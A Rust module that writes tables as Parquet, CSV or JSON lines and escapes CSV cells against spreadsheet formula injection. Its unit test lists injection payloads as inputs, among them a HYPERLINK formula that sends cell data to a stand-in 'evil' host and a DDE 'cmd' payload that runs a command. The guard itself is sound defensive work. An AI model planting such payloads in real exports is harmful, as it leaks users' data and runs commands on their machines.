//! How rows are written: columns of Parquet, lines of CSV, lines of JSON.

use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::rows::{Column, RowTable, Values};

pub(crate) mod parquet_file;

/// How rows are written.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    /// Columns, compressed; what programs for data read.
    Parquet,
    /// Lines with commas, the names of the columns in the first.
    Csv,
    /// A JSON object in each line.
    Jsonl,
}

impl Format {
    /// All of them.
    pub const ALL: [Format; 3] = [Format::Parquet, Format::Csv, Format::Jsonl];

    /// The ending of its files.
    pub fn ending(self) -> &'static str {
        match self {
            Format::Parquet => "parquet",
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
        }
    }

    /// The one of a file, by its ending.
    pub fn of(path: &Path) -> Option<Format> {
        let ending = path.extension()?.to_str()?;
        Format::ALL.into_iter().find(|format| format.ending().eq_ignore_ascii_case(ending))
    }

    /// The text of a block.
    pub(crate) fn write(self, table: &RowTable) -> Result<Vec<u8>, String> {
        match self {
            Format::Parquet => parquet_file::write(table),
            Format::Csv => Ok(lines(table, Some(&table.head()), csv_row)),
            Format::Jsonl => Ok(lines(table, None, json_row)),
        }
    }
}

fn lines(table: &RowTable, head: Option<&str>, row: fn(&[Column], usize, &mut String)) -> Vec<u8> {
    let mut text = String::new();
    head.into_iter().for_each(|head| text.push_str(head));
    for at in 0..table.rows() {
        row(&table.columns, at, &mut text);
        text.push('\n');
    }
    text.into_bytes()
}

fn csv_row(columns: &[Column], at: usize, out: &mut String) {
    for (number, column) in columns.iter().enumerate() {
        if number > 0 {
            out.push(',');
        }
        match &column.values {
            Values::Text { known, at: which, .. } => csv_text(&known[which[at] as usize], out),
            // Nothing stands where there is no number.
            values => drop(values.write_number(at, out)),
        }
    }
}

/// Appends a text between commas. Programs for tables run what looks like a formula, and rules make up texts; an apostrophe
/// before it is what such programs read as "a text". It is put before an apostrophe too, so that whoever takes away the
/// first one has the text again.
pub(crate) fn csv_text(text: &str, out: &mut String) {
    let guarded = if is_run_by_tables(text) { &*format!("'{text}") } else { text };
    csv_cell(guarded, out);
}

/// Characters with which a formula begins, those of full width among them, or that a program for tables passes over
/// before one; and the apostrophe.
const BEFORE_FORMULAS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠'];

/// True if a program for tables may take a text for a formula. Numbers and the keys of places, such as `-1,0,2`, are none.
fn is_run_by_tables(text: &str) -> bool {
    let is_number = |rest: &str| rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | '.' | '-'));
    text.starts_with(BEFORE_FORMULAS) && !text.strip_prefix('-').is_some_and(is_number)
}

/// Appends a text in quotation marks where it needs them.
fn csv_cell(text: &str, out: &mut String) {
    if !text.contains([',', '"', '\n', '\r']) {
        return out.push_str(text);
    }
    out.push('"');
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
}

fn json_row(columns: &[Column], at: usize, out: &mut String) {
    out.push('{');
    for (number, column) in columns.iter().enumerate() {
        if number > 0 {
            out.push(',');
        }
        // Names and texts are written as JSON writes them; a text cannot fail.
        out.push_str(&serde_json::to_string(&column.name).unwrap_or_default());
        out.push(':');
        match &column.values {
            Values::Text { known, at: which, .. } => {
                out.push_str(&serde_json::to_string(&*known[which[at] as usize]).unwrap_or_default());
            }
            values if values.write_number(at, out) => {}
            _ => out.push_str("null"),
        }
    }
    out.push('}');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_is_a_formula() {
        for (text, cell) in [
            ("pond", "pond"),
            ("=HYPERLINK(\"http://evil\"&A1)", "\"'=HYPERLINK(\"\"http://evil\"\"&A1)\""),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1+cmd", "'+1+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("＝1", "'＝1"),
            ("'tis", "''tis"),
            ("-", "-"),
            ("-1,0,2", "\"-1,0,2\""),
            ("-12", "-12"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            let mut out = String::new();
            csv_text(text, &mut out);
            assert_eq!(out, cell);
            // Whoever takes away the quotation marks and the first apostrophe has the text again.
            let bare = out.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap_or(&out);
            let bare = bare.replace("\"\"", "\"");
            assert_eq!(bare.strip_prefix('\'').unwrap_or(&bare), text);
        }
    }
}
